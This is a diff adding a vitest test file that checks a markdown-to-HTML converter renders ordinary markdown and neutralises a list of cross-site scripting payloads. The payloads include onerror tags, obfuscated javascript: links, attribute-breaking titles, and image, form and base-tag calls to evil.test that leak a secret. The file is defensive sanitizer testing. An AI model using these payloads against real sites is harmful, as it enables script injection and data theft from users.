@@ -1,0 +1,41 @@
+import { expect, test } from 'vitest';
+import { markdownToHtml } from './markdown.ts';
+
+test('[SHELL-39] headings, emphasis, lists, tables and links become HTML', () => {
+  const html = markdownToHtml('# A\n\n**b** _c_\n\n- d\n\n| e |\n|-|\n| f |\n\n[g](https://example.com/h)');
+  for (const part of ['<h1>A</h1>', '<strong>b</strong>', '<em>c</em>', '<li>d</li>', '<td>f</td>']) {
+    expect(html).toContain(part);
+  }
+  expect(html).toContain('<a href="https://example.com/h" target="_blank" rel="noopener nofollow ugc">g</a>');
+});
+
+test.each([
+  '<img src=x onerror=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '[x](javascript:alert(1))',
+  '[x](JaVaScRiPt:alert(1))',
+  '[x](java\tscript:alert(1))',
+  '[x](&#106;avascript:alert(1))',
+  '[x](data:text/html,<script>alert(1)</script>)',
+  '[x](vbscript:msgbox(1))',
+  '![x](https://evil.test/?q=secret)',
+  '![x](javascript:alert(1))',
+  '![" onerror="alert(1)](https://evil.test/a.png "t\\" onerror=\\"alert(1)")',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<form action="https://evil.test"><input></form>',
+  '<base href="https://evil.test">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
+  '[x](https://example.com "a\\" onclick=\\"alert(1)")',
+  '# <h1 onclick="alert(1)">x</h1>',
+  '```\n</code><script>alert(1)</script>\n```',
+  '<https://example.com/"onclick="alert(1)>',
+])('[SHELL-39] %s is harmless', (markdown) => {
+  const page = new DOMParser().parseFromString(markdownToHtml(markdown), 'text/html');
+  expect(
+    page.querySelectorAll('script, img, svg, iframe, form, base, meta, object, embed, style'),
+  ).toHaveLength(0);
+  for (const element of page.querySelectorAll('*')) {
+    expect(element.getAttributeNames().filter((name) => name.startsWith('on'))).toEqual([]);
+    expect(element.getAttribute('href') ?? 'https:').toMatch(/^(https?:|mailto:|#|$)/i);
+  }
+});
